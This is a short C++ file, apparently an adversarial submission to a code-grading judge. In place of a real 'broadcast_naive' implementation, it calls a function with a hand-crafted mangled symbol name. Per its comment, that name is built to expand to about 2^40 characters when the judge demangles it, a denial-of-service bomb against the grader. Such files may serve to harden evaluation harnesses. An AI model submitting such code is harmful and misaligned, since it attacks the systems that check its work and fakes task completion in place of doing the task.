// Tries to have the judge write out a name of 2^40 characters: each type in it is a pair of the one
// before.
#include "attack.h"

extern "C" void bomb() asm(
    "_Z4bombSt4pairIS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS"
    "_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IS_IiiES0_ES1_ES2_ES3_ES4_ES5_ES6_ES7_ES8_ES9_ES"
    "A_ESB_ESC_ESD_ESE_ESF_ESG_ESH_ESI_ESJ_ESK_ESL_ESM_ESN_ESO_ESP_ESQ_ESR_ESS_EST_ESU_ESV_ES"
    "W_ESX_ESY_ESZ_ES10_ES11_ES12_E");

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) { bomb(); }

}  // namespace rankbox
